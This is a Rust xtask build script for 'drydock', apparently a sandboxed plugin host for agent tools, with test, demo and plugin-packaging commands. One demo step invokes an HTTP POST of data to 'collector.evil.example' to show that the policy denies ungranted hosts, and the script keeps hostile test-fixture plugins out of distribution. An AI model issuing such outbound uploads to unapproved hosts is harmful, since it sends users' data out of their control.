//! `cargo xtask <command>`: the README's commands, runnable on a fresh machine with only rustup and cargo.
//!
//! - `demo`: installs the wasm32-wasip2 target, builds the plugins and the `drydock` binary, then invokes
//!   the demo tools in dry run and prints each result and effect journal.
//! - `serve`: installs the target, builds the plugins, and runs `drydock serve` on the demo policy
//!   (`drydock.toml`) at http://127.0.0.1:8080; the first start prints an operator token.
//! - `test`: installs the target, builds the plugins, makes sure `curl`, `jq`, `docker-registry` and
//!   `chromium` are there (`system_tools.rs`; as root it installs them with apt-get), installs the browser
//!   tests' driver, npm's `playwright-core` at the version `tests/browser/package-lock.json` pins, with
//!   `npm ci` into `tests/browser/node_modules` when it is missing or the lock changed (`browser_tests.rs`;
//!   it never downloads a browser: the tests drive Debian's Chromium), runs the whole test suite (every
//!   test binary, even after one fails), then schemathesis against a throwaway server's OpenAPI document
//!   (`schemathesis.rs`; needs `python3` with `venv`). It ends with what the failing tests printed, again,
//!   and one summary line, so that the end of a long log says what failed.
//! - `browser`: only the browser tests' part of `test`'s installs (`chromium` and `playwright-core`), for
//!   running those tests by themselves (`docs/development.md`).
//! - `conformance`: builds the plugins, then only the schemathesis step of `test`.
//! - `plugins`: installs the target and builds the plugins only.
//! - `install`: builds the plugins and installs the `drydock` binary with `cargo install` (into
//!   `~/.cargo/bin`, on PATH where rustup set cargo up), so `drydock login`, `drydock shell` and
//!   `drydock mcp` work from anywhere.

use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, bail};

mod browser_tests;
mod jira_standin;
mod language_plugins;
mod schemathesis;
mod system_tools;

const TARGET: &str = "wasm32-wasip2";

/// Prints an error with its causes on one line and exits 1. A `Result` returned from `main` would print a
/// backtrace too wherever `RUST_BACKTRACE` is set (CI sets it for the tests), and that backtrace would then
/// be the last thing in the log instead of what failed.
fn main() -> std::process::ExitCode {
    match xtask() {
        Ok(()) => std::process::ExitCode::SUCCESS,
        Err(error) => {
            eprintln!("xtask: {error:#}");
            std::process::ExitCode::FAILURE
        }
    }
}

fn xtask() -> anyhow::Result<()> {
    let root = workspace_root();
    let command = std::env::args().nth(1).unwrap_or_default();
    match command.as_str() {
        "plugins" => build_plugins(&root),
        "test" => {
            build_plugins(&root)?;
            for tool in system_tools::TEST_TOOLS {
                system_tools::ensure(tool)?;
            }
            browser_tests::ensure(&root)?;
            test(&root)
        }
        "browser" => {
            system_tools::ensure(&system_tools::CHROMIUM)?;
            browser_tests::ensure(&root)
        }
        "conformance" => {
            build_plugins(&root)?;
            schemathesis::run(&root, &cargo())
        }
        "demo" => demo(&root),
        "install" => {
            build_plugins(&root)?;
            eprintln!(
                "xtask: installing `drydock` into cargo's bin directory (on PATH with rustup's setup)"
            );
            run(Command::new(cargo()).current_dir(&root).args([
                "install",
                "--locked",
                "--path",
                "host/server",
            ]))
        }
        "serve" => {
            build_plugins(&root)?;
            let extra: Vec<String> = std::env::args().skip(2).collect();
            let mut serve = Command::new(cargo());
            serve
                .current_dir(&root)
                .args(["run", "--quiet", "-p", "drydock", "--", "serve"])
                .args(&extra)
                .env("JIRA_TOKEN", "demo-token-not-a-real-secret");
            demo_jira(&root, &mut serve)?;
            run(&mut serve)
        }
        _ => {
            eprintln!("usage: cargo xtask <serve|demo|test|browser|conformance|plugins|install>");
            bail!("unknown command `{command}`")
        }
    }
}

/// Starts the Jira stand-in and points `command` (a `drydock serve`) at it: `JIRA_BASE_URL`, and the demo
/// policy with its Jira grant on the stand-in's port, unless the caller chose a policy (`--config` or
/// `DRYDOCK_CONFIG`), which is then used as it is.
fn demo_jira(root: &Path, command: &mut Command) -> anyhow::Result<()> {
    let jira = jira_standin::start()?;
    command.env("JIRA_BASE_URL", &jira);
    let chosen = std::env::args().any(|a| a == "--config" || a.starts_with("--config="))
        || std::env::var_os("DRYDOCK_CONFIG").is_some();
    if chosen {
        eprintln!(
            "xtask: Jira stand-in at {jira} (JIRA_BASE_URL); your policy is used as it is, so grant it \
             there to reach the stand-in"
        );
    } else {
        let policy = jira_standin::demo_policy(root, &jira)?;
        eprintln!(
            "xtask: Jira stand-in at {jira} (JIRA_BASE_URL); the server runs on {}, which is drydock.toml \
             with its Jira grant ({}) pointed at the stand-in",
            policy.display(),
            jira_standin::POLICY_ADDRESS
        );
        command.env("DRYDOCK_CONFIG", policy);
    }
    Ok(())
}

fn workspace_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .expect("xtask lives in the workspace root")
        .to_path_buf()
}

fn cargo() -> String {
    std::env::var("CARGO").unwrap_or_else(|_| "cargo".into())
}

fn run(command: &mut Command) -> anyhow::Result<()> {
    let status = command
        .status()
        .with_context(|| format!("cannot run {command:?}"))?;
    if !status.success() {
        bail!("{command:?} failed with {status}");
    }
    Ok(())
}

/// Adds the wasm32-wasip2 target with rustup when the toolchain lacks it.
fn ensure_target() -> anyhow::Result<()> {
    let installed = Command::new("rustup")
        .args(["target", "list", "--installed"])
        .output()
        .context("rustup is needed to install the wasm32-wasip2 target")?;
    if String::from_utf8_lossy(&installed.stdout)
        .lines()
        .any(|l| l.trim() == TARGET)
    {
        return Ok(());
    }
    eprintln!("xtask: installing the {TARGET} target with rustup");
    run(Command::new("rustup").args(["target", "add", TARGET]))
}

/// Runs the whole suite, echoing cargo's output, then the schemathesis step when the suite passed, and ends
/// with the failing tests' reports again and one summary line over every test binary (cargo's own last line
/// is that of the last doc-test binary, which is usually "0 passed"). The reports come last because a
/// reader of a long log, or a CI page that keeps its head and tail, sees the end first.
fn test(root: &Path) -> anyhow::Result<()> {
    let suite = cargo_test(root)?;
    let conformance = if suite.succeeded {
        schemathesis::run(root, &cargo())
    } else {
        Ok(())
    };
    let tally = &suite.tally;
    if !tally.failure_reports.is_empty() {
        println!("\nxtask: what the failing tests printed, again:");
        for line in &tally.failure_reports {
            println!("{line}");
        }
    }
    println!(
        "tests: {} passed, {} failed, {} skipped",
        tally.passed, tally.failed, tally.ignored
    );
    if !suite.succeeded {
        bail!("cargo test failed");
    }
    conformance
}

/// What `cargo test --workspace` reported.
struct Suite {
    tally: Tally,
    succeeded: bool,
}

/// The counts of libtest's `test result:` lines, and its `failures:` sections (each failing test's output
/// and panic, then the list of their names), in the order printed.
#[derive(Default)]
struct Tally {
    passed: u64,
    failed: u64,
    ignored: u64,
    failure_reports: Vec<String>,
    in_failures: bool,
}

impl Tally {
    /// Takes in one line of cargo test's standard output.
    fn read(&mut self, line: &str) {
        // libtest prints a failing binary's reports between a line `failures:` and its `test result:` line.
        if line == "failures:" {
            self.in_failures = true;
        }
        let Some(counts) = line.strip_prefix("test result: ") else {
            if self.in_failures {
                self.failure_reports.push(line.to_owned());
            }
            return;
        };
        self.in_failures = false;
        for part in counts.split([';', '.']) {
            let mut words = part.split_whitespace();
            if let (Some(n), Some(what)) = (words.next(), words.next())
                && let Ok(n) = n.parse::<u64>()
            {
                match what {
                    "passed" => self.passed += n,
                    "failed" => self.failed += n,
                    "ignored" => self.ignored += n,
                    _ => {}
                }
            }
        }
    }
}

fn cargo_test(root: &Path) -> anyhow::Result<Suite> {
    use std::io::{BufRead, BufReader};
    let mut child = Command::new(cargo())
        .current_dir(root)
        // Every test binary runs even after one fails, so one run reports every failure.
        .args(["test", "--workspace", "--no-fail-fast"])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .context("cannot run cargo test")?;
    let stdout = child.stdout.take().context("cargo test has no stdout")?;
    let mut tally = Tally::default();
    for line in BufReader::new(stdout).lines() {
        let line = line.context("cannot read cargo test's output")?;
        println!("{line}");
        tally.read(&line);
    }
    let status = child.wait().context("cargo test did not finish")?;
    Ok(Suite {
        tally,
        succeeded: status.success(),
    })
}

fn build_plugins(root: &Path) -> anyhow::Result<()> {
    ensure_target()?;
    eprintln!("xtask: building the plugins for {TARGET}");
    run(Command::new(cargo())
        .current_dir(root.join("plugins"))
        .args(["build", "--release", "--target", TARGET]))?;
    let other_languages = language_plugins::build(root)?;
    fill_dist(root, &other_languages)
}

/// Copies the built plugins that are not test fixtures into `plugins/dist`, the default plugin directory
/// of `drydock serve` and `drydock mcp`: the hostile plugins and the other test-only components are for
/// the host's tests, never offered to users or agents. A plugin is a fixture when its Cargo.toml says
/// `[package.metadata.drydock] test-fixture = true`.
fn fill_dist(root: &Path, other_languages: &[language_plugins::Built]) -> anyhow::Result<()> {
    let plugins = root.join("plugins");
    let built = plugins.join("target").join(TARGET).join("release");
    let dist = plugins.join("dist");
    if dist.exists() {
        std::fs::remove_dir_all(&dist)
            .with_context(|| format!("cannot clear {}", dist.display()))?;
    }
    std::fs::create_dir_all(&dist)?;
    let mut shipped = Vec::new();
    for manifest in plugin_manifests(&plugins)? {
        let text = std::fs::read_to_string(&manifest)?;
        let value: toml::Value =
            toml::from_str(&text).with_context(|| format!("cannot read {}", manifest.display()))?;
        let package = &value["package"];
        let fixture = package
            .get("metadata")
            .and_then(|m| m.get("drydock"))
            .and_then(|d| d.get("test-fixture"))
            .and_then(toml::Value::as_bool)
            .unwrap_or(false);
        let is_component = value
            .get("lib")
            .and_then(|lib| lib.get("crate-type"))
            .is_some_and(|types| types.to_string().contains("cdylib"));
        if fixture || !is_component {
            continue;
        }
        let stem = package["name"]
            .as_str()
            .unwrap_or_default()
            .replace('-', "_");
        let file = format!("{stem}.wasm");
        std::fs::copy(built.join(&file), dist.join(&file))
            .with_context(|| format!("cannot copy {file} into {}", dist.display()))?;
        shipped.push(stem);
    }
    for built in other_languages.iter().filter(|built| !built.fixture) {
        let component = &built.component;
        let file = component
            .file_name()
            .context("a component has a file name")?;
        std::fs::copy(component, dist.join(file)).with_context(|| {
            format!(
                "cannot copy {} into {}",
                component.display(),
                dist.display()
            )
        })?;
        if let Some(stem) = component.file_stem().and_then(|s| s.to_str()) {
            shipped.push(stem.to_owned());
        }
    }
    shipped.sort();
    eprintln!("xtask: plugins/dist holds {}", shipped.join(", "));
    Ok(())
}

/// Every `Cargo.toml` under `plugins/` but the workspace's own and those in build output.
fn plugin_manifests(dir: &Path) -> anyhow::Result<Vec<PathBuf>> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        let name = path
            .file_name()
            .and_then(|n| n.to_str())
            .unwrap_or_default();
        if path.is_dir() && name != "target" && name != "dist" {
            let manifest = path.join("Cargo.toml");
            if manifest.is_file() {
                found.push(manifest);
            }
            found.extend(plugin_manifests(&path)?);
        }
    }
    Ok(found)
}

/// One step of the demo: a tool call, and whether it is expected to succeed.
struct Step {
    title: &'static str,
    args: Vec<String>,
    expect_success: bool,
}

fn demo(root: &Path) -> anyhow::Result<()> {
    build_plugins(root)?;
    eprintln!("xtask: building drydock");
    run(Command::new(cargo())
        .current_dir(root)
        .args(["build", "--quiet", "-p", "drydock"]))?;
    let drydock = root.join("target/debug/drydock");
    let jira = jira_standin::start()?;
    let policy = jira_standin::demo_policy(root, &jira)?;
    eprintln!(
        "xtask: Jira stand-in at {jira}; the demo runs on {} (drydock.toml with its Jira grant pointed there)",
        policy.display()
    );
    let invoke = |tool: &str, args: &str| -> Vec<String> {
        ["tool", "invoke", tool, "--args", args]
            .iter()
            .map(|s| s.to_string())
            .collect()
    };
    let steps = [
        Step {
            title: "the tools the demo plugins offer",
            args: vec!["tool".into(), "list".into()],
            expect_success: true,
        },
        Step {
            title: "a granted read: list the demo workspace",
            args: invoke("workspace.list_files", r#"{"recursive": true}"#),
            expect_success: true,
        },
        Step {
            title: "a dry-run file write: the plugin writes a scratch copy, the host keeps the diff",
            args: invoke(
                "workspace.write_file",
                r##"{"path": "notes/ABC-123.md", "content": "# ABC-123\nRetry uploads with backoff.\n"}"##,
            ),
            expect_success: true,
        },
        Step {
            title: "a dry-run Jira comment: the POST is journaled and answered by the host, never sent",
            args: invoke("jira.add_comment", r#"{"key": "ABC-123", "body": "Plan ready for review."}"#),
            expect_success: true,
        },
        Step {
            title: "an ungranted host: denied before anything leaves",
            args: invoke("http.request", r#"{"url": "https://collector.evil.example/upload", "method": "POST", "body": "data"}"#),
            expect_success: false,
        },
        Step {
            title: "a plan for a work item from the template planner",
            args: [
                "plan",
                "generate",
                "--work-item",
                r#"{"id": "ABC-123", "title": "Retry failed uploads", "description": "Uploads fail on flaky networks; retry with backoff.", "type": "feature", "labels": ["backend"]}"#,
            ]
            .iter()
            .map(|s| s.to_string())
            .collect(),
            expect_success: true,
        },
    ];
    for (i, step) in steps.iter().enumerate() {
        println!(
            "\n=== {}. {} ===\n$ drydock {}",
            i + 1,
            step.title,
            shell_words(&step.args)
        );
        let status = Command::new(&drydock)
            .current_dir(root)
            .args(&step.args)
            // The demo's Jira is the local stand-in; dry-run writes never reach it.
            .env("JIRA_BASE_URL", &jira)
            .env("DRYDOCK_CONFIG", &policy)
            .env("JIRA_TOKEN", "demo-token-not-a-real-secret")
            .env_remove("DRYDOCK_LIVE")
            .status()
            .context("cannot run drydock")?;
        if status.success() != step.expect_success {
            bail!(
                "demo step {} ended with {status}, which the demo did not expect",
                i + 1
            );
        }
    }
    println!(
        "\nThe demo workspace is unchanged: every write above was a dry run (see `git status demo/`)."
    );
    Ok(())
}

fn shell_words(args: &[String]) -> String {
    args.iter()
        .map(|a| {
            if a.contains([' ', '"', '{']) {
                format!("'{a}'")
            } else {
                a.clone()
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(path: &Path, text: &str) {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }

    #[test]
    fn dist_holds_the_built_plugins_but_not_the_test_fixtures() {
        let root = std::env::temp_dir().join(format!("xtask-dist-{}", std::process::id()));
        let plugins = root.join("plugins");
        let component = "[lib]\ncrate-type = [\"cdylib\"]\n";
        write(
            &plugins.join("echo/Cargo.toml"),
            &format!("[package]\nname = \"echo\"\n{component}"),
        );
        write(
            &plugins.join("hostile/bomb/Cargo.toml"),
            &format!(
                "[package]\nname = \"hostile-bomb\"\n{component}[package.metadata.drydock]\ntest-fixture = true\n"
            ),
        );
        write(
            &plugins.join("sdk/Cargo.toml"),
            "[package]\nname = \"sdk\"\n",
        );
        let built = plugins.join("target").join(TARGET).join("release");
        write(&built.join("echo.wasm"), "echo");
        write(&built.join("hostile_bomb.wasm"), "bomb");
        write(&plugins.join("dist/stale.wasm"), "old");
        let python = plugins.join("target/componentize/notes_py.wasm");
        write(&python, "notes");
        let broken = plugins.join("target/componentize/hostile_py_describe.wasm");
        write(&broken, "broken");
        let built = [
            language_plugins::Built {
                component: python,
                fixture: false,
            },
            language_plugins::Built {
                component: broken,
                fixture: true,
            },
        ];
        fill_dist(&root, &built).unwrap();
        let mut dist: Vec<String> = std::fs::read_dir(plugins.join("dist"))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        dist.sort();
        assert_eq!(dist, ["echo.wasm", "notes_py.wasm"]);
        std::fs::remove_dir_all(&root).unwrap();
    }

    fn tally(output: &str) -> Tally {
        let mut tally = Tally::default();
        output.lines().for_each(|line| tally.read(line));
        tally
    }

    #[test]
    fn counts_add_up_over_every_binary() {
        let tally = tally(
            "running 2 tests\ntest a ... ok\ntest b ... ignored\n\n\
             test result: ok. 1 passed; 0 failed; 1 ignored; 0 measured; 0 filtered out; finished in 0.01s\n\
             test result: ok. 3 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.20s\n",
        );
        assert_eq!((tally.passed, tally.failed, tally.ignored), (4, 0, 1));
        assert!(tally.failure_reports.is_empty());
    }

    #[test]
    fn a_failing_tests_report_is_kept_and_the_passing_output_is_not() {
        let tally = tally(
            "test console::plan ... FAILED\ntest other ... ok\n\nfailures:\n\n\
             ---- console::plan stdout ----\nthread panicked at console.rs:77:5:\nFAIL in step \"rehearsing\"\n\n\
             failures:\n    console::plan\n\n\
             test result: FAILED. 1 passed; 1 failed; 0 ignored; 0 measured; 0 filtered out; finished in 1.00s\n\
             running 1 test\ntest later ... ok\n\
             test result: ok. 1 passed; 0 failed; 0 ignored; 0 measured; 0 filtered out; finished in 0.01s\n",
        );
        assert_eq!((tally.passed, tally.failed), (2, 1));
        let reports = tally.failure_reports.join("\n");
        assert!(reports.contains("FAIL in step \"rehearsing\""), "{reports}");
        assert!(reports.contains("    console::plan"), "{reports}");
        assert!(!reports.contains("test other ... ok"), "{reports}");
        assert!(!reports.contains("test later"), "{reports}");
        assert!(!reports.contains("test result:"), "{reports}");
    }
}
